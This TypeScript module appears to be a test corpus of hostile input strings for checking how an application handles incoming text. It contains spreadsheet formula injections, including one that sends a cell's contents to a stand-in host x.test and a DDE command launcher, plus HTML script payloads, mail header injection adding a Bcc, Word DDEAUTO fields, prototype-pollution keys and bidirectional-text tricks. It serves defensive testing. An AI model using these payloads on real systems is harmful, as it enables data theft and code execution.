// Text that breaks careless programs, by what it tries: one list, for every door through which text comes in.

/** What a text tries, in words. */
export type Attempt =
  | 'be a formula'
  | 'be another value than it says'
  | 'hide or turn what is read'
  | 'be torn or composed anew'
  | 'be markup'
  | 'be a template'
  | 'be a header of a mail'
  | 'be no XML'
  | 'be a field of a document'
  | 'be a property of every object'
  | 'be a pattern of a replacement';

export interface Hostile {
  readonly attempt: Attempt;
  /** What is peculiar about it; unique in the list. */
  readonly name: string;
  readonly text: string;
}

/** What a formula may begin with in one spreadsheet or another, full-width signs and what is trimmed away among it. */
export const FORMULA_STARTS: Readonly<Record<string, string>> = {
  equals: '=',
  plus: '+',
  minus: '-',
  at: '@',
  'apostrophe and equals': "'=",
  'tab and equals': '\t=',
  'space and equals': ' =',
  'hard space and equals': '\u00a0=',
  'line feed and equals': '\n=',
  'carriage return and equals': '\r=',
  'both line ends and equals': '\r\n=',
  'zero-width space and equals': '\u200b=',
  'byte order mark and equals': '\ufeff=',
  'full-width equals': '＝',
  'full-width plus': '＋',
  'full-width minus': '－',
  'full-width at': '＠',
};

/** A call as a Vietnamese book separates its arguments, and as an English one does. */
const SEPARATORS = { semicolons: ';', commas: ',' } as const;

const formulas: readonly Hostile[] = Object.entries(FORMULA_STARTS).flatMap(([start, sign]) =>
  Object.entries(SEPARATORS).map(([name, separator]) => ({
    attempt: 'be a formula' as const,
    name: `${start}, with ${name}`,
    text: `${sign}IF(1=1${separator}"đã chạy"${separator}0)`,
  })),
);

const of = (attempt: Attempt, texts: Readonly<Record<string, string>>): Hostile[] =>
  Object.entries(texts).map(([name, text]) => ({ attempt, name, text }));

/** A hundred characters above what one cell holds would do; one is the sharper question. */
export const ONE_TOO_MANY = 50_001;

export const corpus: readonly Hostile[] = [
  ...formulas,
  ...of('be a formula', {
    'a call to another site': '=IMPORTXML("http://x.test/?"&A1;"//a")',
    'a picture that reports': '=IMAGE("http://x.test/p.png?"&A1)',
    'a range of another file': '=IMPORTRANGE("1aB";"A1:Z99")',
    'a link that lures': '=HYPERLINK("http://x.test/?k="&B2;"Bấm vào đây")',
    'a command of another program': "=cmd|' /C calc'!A0",
    'a sum after a bullet': '- SUM(A1:A9)',
    'a formula on the second line': 'Đề nghị xem lại\n=1+1',
    'a formula in braces': '{=SUM(A1:A9)}',
    'an array of formulas': '={1\\2;3\\4}',
  }),
  ...of('be another value than it says', {
    'a telephone number': '+84912345678',
    'leading zeros': '00123',
    'a day': '1/2/2026',
    'a range of pages': '1-2',
    'a time': '07:30',
    'a truth': 'TRUE',
    'a Vietnamese truth': 'ĐÚNG',
    'a number with a comma': '1.234,50',
    'a power of ten': '5E3',
    'an error': '#REF!',
    'an apostrophe before a word': "'nguyên văn",
    'a percentage': '-15%',
  }),
  ...of('hide or turn what is read', {
    'an override from right to left': 'gửi \u202efdp.exe\u202c ngay',
    'an isolate that is never closed': 'Điều 5 \u2067אבג',
    'marks of direction': '\u200eĐề nghị\u200f bổ sung\u061c',
    'zero-width between letters': 'Đề\u200b ng\u200chị\u200d bổ\u2060 sung',
    'a soft hyphen': 'thị\u00ad trường',
    'tags of a language': 'ý kiến\u{e0061}\u{e0062}',
    'a bell and an escape': 'chuông\u0007 và \u001b[31mmàu\u001b[0m',
    'a backspace': 'đồng ý\b\b\b\b\bphản đối',
    'controls of the second set': 'a\u0085b\u009fc',
    'separators of lines and paragraphs': 'dòng\u2028đoạn\u2029hết',
  }),
  ...of('be torn or composed anew', {
    'marks apart from their letters': 'Đề nghị bổ sung “thị trường khoa học”'.normalize('NFD'),
    'marks in another order': 'ê\u0323\u0301 và ệ\u0301',
    'half a pair, the first': 'cao \ud83d thấp',
    'half a pair, the second': 'thấp \udc00 cao',
    'a pair the wrong way round': '\ude00\ud83d',
    'a family of faces': '👨‍👩‍👧‍👦 và 🇻🇳',
    'a letter beyond the first plane': '𠀋 và 𝐀',
    'such letters after a number': '2.𝝥 tháng 5/2021',
    'a tower of marks': `Z${'\u0301\u0323\u0302'.repeat(40)}`,
    'all three kinds of line ends': 'một\r\nhai\rba\nbốn',
    'spaces around and between': '  hai  khoảng   trắng  ',
  }),
  ...of('be markup', {
    'a script': '<script>window.pwned=1</script>',
    'a picture that fails': '<img src=x onerror="window.pwned=1">',
    'an end of a script': '</script><script>window.pwned=1</script>',
    'a comment that never ends': '<!-- <script>',
    'a vector with an event': '<svg/onload=window.pwned=1>',
    'an attribute that ends': '" onmouseover="window.pwned=1" x="',
    'an address that is a script': 'javascript:window.pwned=1',
    'bold and an ampersand': '<b>A & B</b> &lt;đã thoát&gt; &amp;amp;',
    'a scriptlet': '<?= "đã chạy" ?><?!= data ?>',
    'a template literal': ['`$', '{window.pwned=1}`'].join(''),
    'an object in JSON': '"},"report":{"lead":"giả"}//',
  }),
  ...of('be a template', {
    'a field of ours': '{{tenDeAn}}',
    'a field unescaped': '{{{lienKet}}} {{&maPhieu}}',
    'a section': '{{#khan}}KHẨN{{/khan}}{{^khan}}thường{{/khan}}',
    'a partial': '{{> tenDeAn}}',
    'other delimiters': '{{=<% %>=}}<% maPhieu %>',
    'a comment': '{{! bỏ đi }}giữ lại',
    'open braces': '{{chưa đóng',
    'a field of a link': '{{CODE}}',
  }),
  ...of('be a header of a mail', {
    'a blind copy after both line ends': 'Sở Y tế\r\nBcc: ke.gian@x.test',
    'a blind copy after a line feed': 'Sở Y tế\nBcc: ke.gian@x.test',
    'a body of its own': 'Sở Y tế\r\n\r\n<html>thư giả</html>',
    'a folded line': 'Sở Y tế\r\n Subject: giả',
    'encoded line ends': 'Sở Y tế%0d%0aBcc: ke.gian@x.test',
    'an encoded word': '=?utf-8?B?Qmbjog==?= =?utf-8?Q?=0ABcc:_x?=',
    'a line end of another alphabet': 'Sở Y tế\u2028Bcc: ke.gian@x.test',
  }),
  ...of('be no XML', {
    'every control below the space': Array.from({ length: 32 }, (_, code) =>
      String.fromCharCode(code),
    ).join('x'),
    'what is no character': 'a\ufffeb\uffffc',
    'a section of data': ']]><![CDATA[ giả ]]>',
    'an entity': '&xxe; &#0; &#x1F;',
    'an end of a run': '</w:t></w:r></w:p></w:tc></w:tr></w:tbl>',
    'an escape of the sheet format': '_x000D_ _x0000_',
  }),
  ...of('be a field of a document', {
    'a field that includes a file': '{ INCLUDETEXT "C:\\\\x" }',
    'a field that starts a program': '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    'the element of a simple field':
      '</w:t></w:r><w:fldSimple w:instr="INCLUDETEXT C:\\\\x"/><w:r><w:t>',
    'the element of an instruction': '<w:instrText>DDEAUTO cmd</w:instrText>',
    'the marks of a field': '\u0013 HYPERLINK "http://x.test" \u0014bấm\u0015',
    'a relation to another site': '<a:blip r:link="http://x.test/p.png"/>',
  }),
  ...of('be a property of every object', {
    'the prototype': '__proto__',
    'the constructor': 'constructor',
    'a method of every object': 'hasOwnProperty',
    'the way to a text': 'toString',
    'a path to the prototype': 'constructor.prototype',
  }),
  ...of('be a pattern of a replacement', {
    'the match itself': '100$& triệu $$',
    'what stands around it': "$` và $' và $1 $<tên>",
    'a percent sign and a letter': '%s %d {0} \\1 \\n',
  }),
];

/** A text that no cell holds, of which every part can be told from the others. */
export const tooLongForACell = (length = ONE_TOO_MANY): string => {
  const sentences = Array.from({ length: length / 10 }, (_, n) => `Câu thứ ${n + 1}. `).join('');
  return `${sentences.slice(0, length - 1)}.`;
};

/** As the book keeps it: line ends are made one kind, and nothing else of a text is touched. */
export const kept = (text: string): string => text.replace(/\r\n?/g, '\n');
